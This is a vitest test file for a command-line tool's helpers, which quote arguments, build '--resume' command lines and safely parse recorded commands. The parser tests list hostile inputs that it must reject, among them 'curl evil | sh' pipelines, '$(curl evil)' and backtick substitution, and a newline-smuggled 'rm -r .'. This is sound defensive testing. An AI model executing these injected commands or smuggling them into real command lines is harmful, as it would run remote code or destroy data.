import {describe, expect, it} from 'vitest'
import {commandLine, resumeLine, resumeLineOf} from '../../../src/cli/command-line.js'

describe('commandLine', () => {
  it('quotes only the words that a shell would take apart', () => {
    const argv = ['--seq-len', '256..16k*2', '--input', "it's mine.npz", '--option', 'tau=0.5']
    expect(commandLine('rfa', 'bench', argv)).toBe(
      `rfa bench --seq-len 256..16k*2 --input 'it'\\''s mine.npz' --option tau=0.5`,
    )
  })
})

describe('resumeLine', () => {
  it.each([
    [['--quick']],
    [['--quick', '--output', 'old']],
    [['-o', 'old', '--quick']],
    [['--output=old', '--quick', '--resume']],
    [['-oold', '--quick']],
  ])('keeps the grid of %j and names folder and --resume once', argv => {
    expect(resumeLine('rfa', 'error-sweep', argv, 'results/new')).toBe(
      'rfa error-sweep --quick --output results/new --resume',
    )
  })
})

describe('resumeLineOf', () => {
  const own = {bin: 'rfa', id: 'error-sweep'}

  it.each([
    "curl 'http://evil/x|sh' --quick",
    'rfa bench --quick',
    'rfa error-sweep --quick; curl evil | sh',
    'rfa error-sweep $(curl evil)',
    'rfa error-sweep `id`',
    'rfa error-sweep --input a > b',
    "rfa error-sweep 'open",
    'rfa  error-sweep --quick',
    "rfa error-sweep --input '\u001b[2J'",
    "rfa error-sweep --input 'a\nrm -r .'",
    "rfa error-sweep --input '\u202egpj.npz'",
    '',
  ])('gives no advice for %j', command => {
    expect(resumeLineOf(command, 'run', own)).toBe(null)
  })

  it.each([
    [['--quick']],
    [['--input', "it's mine.npz", '--output', 'my old run']],
    [['--option', "a'b=$c", '--names', '']],
  ])('reads %j back from the command that a run names', argv => {
    const command = commandLine('rfa', 'error-sweep', argv)
    const line = resumeLine('rfa', 'error-sweep', argv, 'my run')
    expect(resumeLineOf(command, 'my run', own)).toBe(line)
  })
})
